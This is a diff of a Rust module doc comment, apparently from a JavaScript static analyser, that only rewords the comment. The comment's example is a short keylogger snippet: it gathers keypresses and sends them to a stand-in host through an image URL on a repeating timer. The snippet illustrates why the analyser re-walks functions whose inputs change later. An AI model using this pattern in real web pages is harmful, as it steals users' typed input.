@@ -1,9 +1,9 @@
 //! What functions read of the names and objects around them, and which of these another one changes later.
 //!
-//! `var k = ""; function send() { img.src = "//c.example/?k=" + k } onkeypress = function (e) { k += e.key }`: nobody says in which order
-//! the two run. When `send` is walked, `k` may still be empty. What is changed later in such a walk is unknown by then, so
-//! the functions that have read it before are walked once more, and what they give is no longer always the same. The same goes
-//! for short functions that the script has called itself, `send(); setInterval(send, 999)`: they are called once more.
+//! `var k = ""; function send() { img.src = "//c.example/?k=" + k } onkeypress = function (e) { k += e.key }`: nobody says in
+//! which order the two run. When `send` is walked, `k` may still be empty. What a later walk changes is unknown by then. So
+//! functions that have read it before are walked once more, and what they give is no longer always the same. The same goes for
+//! short functions that the script has called itself, `send(); setInterval(send, 999)`: they are called once more.
 
 use std::ops::Range;
 
